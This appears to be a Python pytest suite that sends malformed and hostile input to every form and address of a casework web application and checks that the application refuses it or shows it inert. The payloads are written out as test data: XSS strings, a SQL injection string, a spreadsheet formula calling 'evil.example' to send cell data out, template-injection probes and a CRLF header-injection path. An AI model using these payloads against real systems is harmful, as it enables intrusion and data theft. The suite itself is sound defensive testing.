"""Every form with everything that should never be sent to it: a message each time, never a fault, nothing changed."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from typing import Any

import pytest

from disclosure.domain.access import Role
from tests.forms.samples import ASKS_NOTHING
from tests.web.client import PASSWORD, Answer, carried
from tests.web.desk import KNOWN, WAY, Desk
from tests.web.test_acting import BESIDE, ENDS, ENQUIRY, OPEN_AND_CLOSED, ROUTES, form_of

SCRIPT = "<script>alert(1)</script>"
CARRIED = frozenset({"csrf_token", "request_key", "version", "about"})
PARTS = ("-day", "-month", "-year", "-time")


@pytest.fixture
def desk(app, clock, as_user):
    made = Desk(app, clock, as_user)
    for name in ("ines", "rae", "omar", "sofia", "sam", "pat", "petra", "ada", "aled"):
        getattr(made, name).checks_pages = False  # what a fault would look like is looked for here, in many pages
    return made


@dataclass(frozen=True)
class Asked:
    """A form as its page shows it: where it goes, what a browser would send filled in, and what kind of input each name is."""

    path: str
    sent: dict[str, Any]
    texts: tuple[str, ...]
    words: tuple[str, ...]  # the free texts that the sample answers: no figure, no mail address
    parts: tuple[str, ...]
    choices: tuple[str, ...]

    def having(self, names: tuple[str, ...], value: Any) -> dict[str, Any]:
        return {**self.sent, **dict.fromkeys(names, value)}


def asked(answer, sample: dict[str, Any], path: str = "") -> Asked:
    """The form in the middle of the page; of several, the one that is sent to `path`."""
    form = answer.page.main.find("form", action=path) if path else form_of(answer)
    kinds: dict[str, str] = {}
    free = set()
    for control in form.find_all(["input", "textarea", "select"]):
        name, kind = control.get("name"), control.get("type", control.name)
        if name and name not in CARRIED and kind not in ("submit", "hidden"):
            kinds[name] = "choice" if kind in ("radio", "checkbox", "select") else kind
            if kind != "email" and control.get("inputmode") != "numeric":
                free.add(name)
    parts = tuple(name for name in kinds if name.endswith(PARTS))
    choices = tuple(name for name, kind in kinds.items() if kind == "choice")
    texts = tuple(name for name in kinds if name not in parts and name not in choices)
    words = tuple(name for name in texts if name in free and name in sample)
    return Asked(form["action"], {**carried(form), **sample}, texts, words, parts, choices)


def dated(day: str, month: str, year: str, time: str) -> Callable[[Asked], dict[str, Any]]:
    said = {"-day": day, "-month": month, "-year": year, "-time": time}
    return lambda form: {**form.sent, **{name: said[name[name.rindex("-") :]] for name in form.parts}}


# What is refused whatever the form is: how it is sent, by the input it goes into.
REFUSED: dict[str, Callable[[Asked], dict[str, Any]]] = {
    "10,001 characters": lambda form: form.having(form.texts, "x" * 10_001),
    "20,000 signs of four bytes": lambda form: form.having(form.texts[:1], "\U0001f600" * 20_000),
    "control characters": lambda form: form.having(form.texts, "a\x00b\x07c\x1b[31m"),
    "turned reading direction": lambda form: form.having(form.texts, "abc\u202e\u2066def"),
    "a date that is none": dated("31", "2", "2026", "25:61"),
    "a date of no figures": dated("٣", "-1", "1e3", "\x00"),
    "a date far ahead": dated("31", "12", "9999", "23:59"),
    "a date before all": dated("1", "1", "0001", "00:00"),
    "a date too long": dated("1" * 400, "1" * 400, "1" * 400, "1" * 400),
    "half a date": dated("", "", "2026", ""),
    "choices not offered": lambda form: form.having(form.choices, "nonsense' OR '1'='1"),
    "choices of no character": lambda form: form.having(form.choices, "\x00"),
    "choices as long as a book": lambda form: form.having(form.choices, "disclose_full" * 4_000),
    "nothing at all": lambda form: {name: form.sent[name] for name in form.sent if name in CARRIED},
}
# The same in fewer pages, for forms that take long to draw: several kinds of input are wrong at once.
TOGETHER: dict[str, tuple[str, ...]] = {
    "too long": ("10,001 characters", "a date too long", "choices as long as a book"),
    "no characters": ("control characters", "a date of no figures", "choices of no character"),
    "not offered": ("turned reading direction", "a date that is none", "choices not offered"),
    "far off": ("20,000 signs of four bytes", "a date far ahead"),
    "nothing at all": ("nothing at all",),
}
# What may pass, since people do write so: then it is kept and shown as it was written, and never runs.
MARKUP = f"""{SCRIPT}<img src=x onerror=alert(1)>"'`</textarea></title>{SCRIPT}"""
PASSING: dict[str, Callable[[Asked], dict[str, Any]]] = {
    "everything twice": lambda form: {
        name: value if name in CARRIED else [*(value if isinstance(value, list) else [value]), "zz"]
        for name, value in form.sent.items()
    },
    "people who are not there": lambda form: {
        **form.sent, "applicant-99-given_names": "x", "subject-٣-family_name": "x", "children-20-sex": "x", "-0-": "x",
        "remove_children-٠": "yes", "outcome-0": "x", "children-0-": SCRIPT,
    },
    "a formula": lambda form: form.having(form.words, '=HYPERLINK("http://evil.example/?"&A1,"x")'),
    "places to fill": lambda form: form.having(form.words, "%(count)s %s %d {0} {{ 7*7 }} ${7*7} {% raw %}"),
    "markup": lambda form: form.having(form.words, MARKUP),
}  # fmt: skip
FORGED = ({"version": "x"}, {"version": ""}, {"version": "-1"}, {"version": "9" * 40}, {"version": ["99", "1"]})


def check(answer, what: str) -> None:
    """Never a fault, nor anything of the fault's inside; a message that says what to do."""
    assert answer.status_code in {200, 400, 409}, f"{what}: {answer.status_code}"
    assert "Traceback" not in answer.text, what
    assert "sqlalchemy" not in answer.text.lower(), what
    assert SCRIPT not in answer.text, what
    assert "<img src=x" not in answer.text, what
    main = answer.text.partition("<main")[2]
    assert "govuk-error-summary" in main or "app-banner" in main or answer.status_code != 200, f"{what}: no message"


def refuse_everything(desk, name: str, form: Asked, by) -> list[Answer]:
    """What it was answered, for further questions."""
    answers = []
    with desk.nothing_changes(name):
        for what, spoil in REFUSED.items():
            if (sent := spoil(form)) != form.sent:
                answers.append(by.post(form.path, sent))
                check(answers[-1], f"{name}, {what}")
    return answers


def refuse_together(desk, name: str, form: Asked, by) -> None:
    with desk.nothing_changes(name):
        for what, kinds in TOGETHER.items():
            spoilt = form
            for kind in kinds:
                spoilt = replace(spoilt, sent=REFUSED[kind](spoilt))
            check(by.post(form.path, spoilt.sent), f"{name}, {what}")


def pass_or_refuse(desk, name: str, form: Asked, what: str, by) -> bool:
    """Whether it passed; then the case's page shows it without running it."""
    sent = {**PASSING[what](form), "request_key": f"{name}-{what.replace(' ', '-')}"}
    answer = by.post(form.path, sent)
    if answer.status_code == 200 and KNOWN in answer.text:
        assert SCRIPT not in answer.text, f"{name}, {what}"
        answer = by.submit(answer)
    if answer.status_code != 303:
        assert SCRIPT not in answer.text, f"{name}, {what}"
        assert answer.status_code in {200, 400, 409}, f"{name}, {what}: {answer.status_code}"
        return False
    page = by.get(answer.location)
    assert page.status_code == 200, f"{name}, {what}"
    assert SCRIPT not in page.text, f"{name}, {what}"
    assert "<img src=x" not in page.text, f"{name}, {what}"
    return True


def steps(scheme: str) -> Iterator[tuple[str, str, str, str]]:
    for stage, step in WAY.items():
        if scheme == "dvds" or step[0] in {"record_meeting", "record_full_checks", "decide"}:
            yield stage, *step


@pytest.mark.parametrize("scheme", ["dvds", "csods"])
def test_every_step_refuses_what_should_never_be_sent(desk, scheme):
    reference = desk.register(scheme)
    for stage, action, outcome, who in steps(scheme):
        desk.go_on(reference, stage)
        by = getattr(desk, who)
        form = asked(desk.ask(reference, action, by=by), desk.sample(reference, action, outcome))
        (refuse_everything if scheme == "dvds" else refuse_together)(desk, action, form, by)
        if stage in ("meeting", "decision", "closing"):
            forge(desk, action, form, by)


def forge(desk, name: str, form: Asked, by) -> None:
    """Hidden fields that the page did not write."""
    with desk.nothing_changes(name):
        for forged in FORGED:
            answer = by.post(form.path, {**form.sent, **forged})
            assert answer.status_code == 409, f"{name} with {forged}: {answer.status_code}"
            assert SCRIPT not in answer.text


def test_everything_beside_the_steps_refuses_it_too(desk):
    reference = desk.walk("decision")
    for action in ("record_allegation", "request_extension", "set_task"):
        desk.take(reference, action, by="omar")
    for action, outcome, who in (*BESIDE, *ENDS):
        if action in ASKS_NOTHING:  # there is nothing to type into
            continue
        by = desk.sofia if action == "decide_extension" else getattr(desk, who)
        sample = desk.sample(reference, action, outcome)
        form = asked(desk.ask(reference, action, by=by), sample)
        refuse_together(desk, action, form, by)
    closed, enquiry = desk.walk("closed"), desk.register("csods", "enquiry")
    for where, steps in ((closed, OPEN_AND_CLOSED), (enquiry, ENQUIRY)):
        for action, outcome, who in steps:
            by = getattr(desk, who)
            form = asked(desk.ask(where, action, by=by), desk.sample(where, action, outcome))
            refuse_together(desk, action, form, by)


CORRECTABLE = ("initial_checks", "meeting", "full_checks", "risk_assessment", "disclosure", "informing")


def test_every_correction_refuses_it_too(desk):
    """Of a registration, which asks the longest form again, and of each record that can be corrected."""
    reference, tried = desk.walk("closing"), set()
    for event in desk.case(reference).events:
        page = desk.ask(reference, "correct", by=desk.omar, about=event.sequence)
        if page.status_code == 200 and page.page.main.form:
            refuse_together(desk, f"correct {event.kind}", asked(page, {"correction_reason": "Another day"}), desk.omar)
            tried.add(event.kind)
    assert tried == {"registration", *CORRECTABLE}, "a decision is never corrected, but decided anew"


def test_every_registration_refuses_it_and_shows_what_it_takes_without_running_it(desk):
    for scheme, route in ROUTES:
        key = desk.law.for_receipt(scheme, desk.clock()).route(route).form
        form = asked(desk.ines.get(f"/register/{scheme}/{route}"), desk.fields(key))
        refuse_together(desk, key, form, desk.ines)
        passed = {what for what in PASSING if pass_or_refuse(desk, key, form, what, desk.ines)}
        assert {"a formula", "places to fill", "markup"} <= passed, "a name, and what somebody says, may hold any sign"


ACCOUNT = {"name": "Nia Bell", "roles": ["researcher"]}
# Who, the page with the form, where the form is sent to, and what is entered: all forms but those of the casework.
BESIDE_CASES = (
    ("ada", "/users/new", "/users/new", {**ACCOUNT, "username": "nia.bell"}),
    ("ada", "/users/{}", "/users/{}", ACCOUNT),
    ("ada", "/users/{}/disable", "/users/{}/disable", {"sure": "yes"}),
    ("aled", "/audit", "/audit/case", {"reference": "7K4M-2P9Q-J"}),
    ("aled", "/audit", "/audit/person", {"family_name": "Stone", "given_names": "Vic"}),
    ("aled", "/audit", "/audit/user", {"username": "omar.haddad"}),
    ("nobody", "/sign-in", "/sign-in", {"username": "omar.haddad", "password": PASSWORD}),
    ("rae", "/password", "/password", {"current_password": PASSWORD, **dict.fromkeys(("new_password", "again"), "quiet marble lantern")}),
)  # fmt: skip


@pytest.mark.parametrize(("who", "page", "path", "sample"), BESIDE_CASES, ids=[path for *_, path, _ in BESIDE_CASES])
def test_every_form_beside_the_casework_refuses_it_and_shows_what_it_takes_without_running_it(
    desk, client, who, page, path, sample
):
    client.checks_pages = False
    by = client if who == "nobody" else getattr(desk, who)
    page, path = page.format(desk.sam.user_id), path.format(desk.sam.user_id)
    form = asked(by.get(page), sample, path)
    assert set(sample) <= {*form.texts, *form.choices}
    for answer in refuse_everything(desk, path, form, by):
        assert "There is no " not in answer.words, "what should never be sent is not looked for"
    for what in PASSING if who in ("ada", "aled") else ():
        pass_or_refuse(desk, path, form, what, by)


def test_the_form_of_somebody_who_still_has_to_choose_a_password_refuses_it_too(desk, as_user):
    tom = as_user(Role.INTAKE, must_change_password=True)
    tom.checks_pages = False
    chosen = dict.fromkeys(("new_password", "again"), "quiet marble lantern")
    form = asked(tom.get("/password"), chosen)
    assert set(chosen) == set(form.texts)
    refuse_everything(desk, "first password", form, tom)
    assert tom.post(form.path, form.sent).status_code == 303


def test_what_people_may_write_is_kept_and_shown_and_never_runs(desk):
    """A case whose every text is markup, from the first form to the last; then its lists and forms."""
    reference = desk.register()
    for stage, (action, outcome, who) in WAY.items():
        by = getattr(desk, who)
        assert desk.stage(reference) == stage
        for beside in BESIDE if stage == "decision" else ():
            texts(desk, reference, *beside)
        form = asked(desk.ask(reference, action, by=by), desk.sample(reference, action, outcome))
        if not pass_or_refuse(desk, action, form, "markup", by):
            desk.take(reference, action, outcome, by=who)  # a figure or a mail address was among the texts
    for path in ("/cases", f"/cases/{reference}", "/cases?show=closed", f"/cases/{reference}/actions/correct"):
        page = desk.sofia.get(path)
        assert SCRIPT not in page.text
    note = next(event.sequence for event in desk.case(reference).events if event.kind == "note")
    assert MARKUP in desk.case(reference).events[note - 1].values["note"], "as it was written, not as it is shown"
    answer = desk.omar.get(f"/cases/{reference}")
    assert answer.page.select_one(f"#event-{note} .app-timeline__details").get_text().count(SCRIPT) == 2


def texts(desk, reference: str, action: str, outcome: str, who: str) -> None:
    sample = desk.sample(reference, action, outcome)
    by = getattr(desk, who)
    form = asked(desk.ask(reference, action, by=by), sample)
    if not pass_or_refuse(desk, action, form, "markup", by):
        desk.take(reference, action, outcome, by=who)


def test_a_note_takes_any_words_and_a_decision_does_not_break_on_them(desk):
    for what in PASSING:
        reference = desk.walk("decision")
        for action, outcome, by in (("note", "done", desk.omar), ("decide", "disclose_full", desk.sofia)):
            form = asked(desk.ask(reference, action, by=by), desk.sample(reference, action, outcome))
            assert pass_or_refuse(desk, f"{action}-{reference}", form, what, by), action


def test_a_forged_record_a_forged_key_and_a_forged_case_change_nothing_they_should_not(desk):
    reference = desk.walk("decision")
    desk.take(reference, "record_allegation", by="omar")
    desk.take(reference, "note", by="omar")
    form = asked(desk.ask(reference, "decide_crime", by=desk.sofia), desk.fields("decide_crime", "recorded"))
    with desk.nothing_changes():
        for about in ("", "x", "0", "-1", "1", "3", "9" * 30, "\x00", str(form.sent["version"])):
            answer = desk.sofia.post(form.path, {**form.sent, "about": about})
            assert answer.status_code in {200, 409}, about
            assert desk.sofia.get(form.path, query_string={"about": about}).status_code == 200, about
        for action in ("register", "move_deadlines", "look_again", "nothing", "note%00", "..", "correct'--"):
            answer = desk.sofia.post(f"/cases/{reference}/actions/{action}", form.sent)
            assert answer.status_code == 404, action
    for number, key in enumerate(("\x00", "x" * 10_000, SCRIPT, "", "é", "a b", ["a", "b"])):
        version = desk.case(reference).version
        note = {**desk.fields("note"), "note": f"Note {number}", "version": version, "request_key": key}
        answer = desk.omar.post(f"/cases/{reference}/actions/note", note)
        assert answer.status_code == 303, key
        assert desk.case(reference).version == version + 1


def test_a_key_of_somebody_elses_request_tells_nothing_of_it(desk):
    theirs = desk.walk("decision")
    key = desk.case(theirs).events[0].request_key
    desk.let_in(theirs, desk.omar, allow=False)
    mine = desk.register()
    answer = desk.omar.post(f"/cases/{mine}/actions/note", {**desk.fields("note"), "version": 1, "request_key": key})
    assert answer.status_code == 303
    assert theirs not in answer.location
    assert desk.case(mine).version == 2


def test_the_same_page_sent_with_other_words_is_not_taken_for_what_was_recorded(desk):
    reference = desk.register()
    sent = {**desk.fields("note"), "version": 1, "request_key": "once"}
    assert desk.omar.post(f"/cases/{reference}/actions/note", sent).status_code == 303
    with desk.nothing_changes():
        answer = desk.omar.post(f"/cases/{reference}/actions/note", {**sent, "note": "She called again, frightened."})
    assert answer.status_code == 409
    assert "She called again, frightened." in answer.text


def test_bytes_that_are_no_text_are_refused_or_replaced(desk):
    reference = desk.register()
    start = f"csrf_token={desk.omar.token}&version=1&request_key=k".encode()
    kind = "application/x-www-form-urlencoded"
    for tail in (b"&note=%ff%fe%fd", b"&note=%00", b"&note=\xff", b"&%ff=%ff", b"&note=%ED%A0%80", b"&" * 500):
        with desk.nothing_changes():
            answer = desk.omar.open(
                f"/cases/{reference}/actions/note", method="POST", data=start + tail, content_type=kind
            )
        assert answer.status_code in {200, 400}, tail
    big = start + b"&note=" + b"x" * 3_000_000
    with desk.nothing_changes():
        answer = desk.omar.open(f"/cases/{reference}/actions/note", method="POST", data=big, content_type=kind)
        many = start + b"&a=b" * 5_000
        other = desk.omar.open(f"/cases/{reference}/actions/note", method="POST", data=many, content_type=kind)
    assert answer.status_code == 413
    assert other.status_code in {200, 413}


ADDRESSES = (
    "/cases/%00", "/cases/%ff%fe", "/cases/" + "A" * 3_000, "/cases/7K4M-2P9Q-J/clocks/%00/1", "/register/%00/%00",
    "/register/dvds/enquiry", "/cases?show=%00", "/cases?show=" + "x" * 3_000, "/nothing%00here", "/nothing" + "x" * 3_000,
    "/figures?period=%00", "/figures?period=" + "x" * 3_000, f"/figures?period={SCRIPT}", "/figures.csv?period=%00",
    "/figures?period=0001-01-01/9999-12-31", "/figures.csv?period=2026-Q9", f"/{SCRIPT}", "/cases/%0d%0aSet-Cookie:x=y",
)  # fmt: skip


NUMBERS = (
    "0", "-1", "9" * 5000, "2147483647", "2147483648", "9223372036854775808", "-2147483649", "-99999999999999999999", "1e3", "%D9%A3",
)  # fmt: skip
NUMBERED = {
    Role.ADMINISTRATOR: ("/users/{}", "/users?after={}"),
    Role.AUDITOR: (
        "/audit/people/{}", "/audit/users/{}", "/audit/people/1?before=20260101T000000000000.{}.1",
        "/audit/users/1?before=20260101T000000000000.1.{}", "/audit?before=20260101T000000000000.{}.1",
    ),
    Role.SUPERVISOR: ("/cases/{reference}/records/{}", "/cases/{reference}/clocks/overall/{}"),
}  # fmt: skip


@pytest.mark.databases("sqlite", "postgresql")
@pytest.mark.parametrize("role", NUMBERED)
def test_numbers_that_no_row_has_are_answered_with_a_page(desk, as_user, role):
    somebody, reference = as_user(role), desk.walk("meeting")
    for template in NUMBERED[role]:
        for number in NUMBERS:
            address = template.format(number, reference=reference)
            answer = somebody.get(address)
            assert answer.status_code in {200, 400, 404}, f"{address[:60]}: {answer.status_code}"
        if reference in template.format(1, reference=reference):
            assert somebody.get(template.format(1, reference=reference)).status_code == 200, "there is such a case"


def test_addresses_that_nobody_wrote_are_answered_with_a_page(desk):
    with desk.nothing_changes():
        for address in ADDRESSES:
            answer = desk.sofia.get(address)
            assert answer.status_code in {200, 400, 404}, f"{address[:60]}: {answer.status_code}"
            assert SCRIPT not in answer.text
            assert "x=y" not in str(answer.headers)
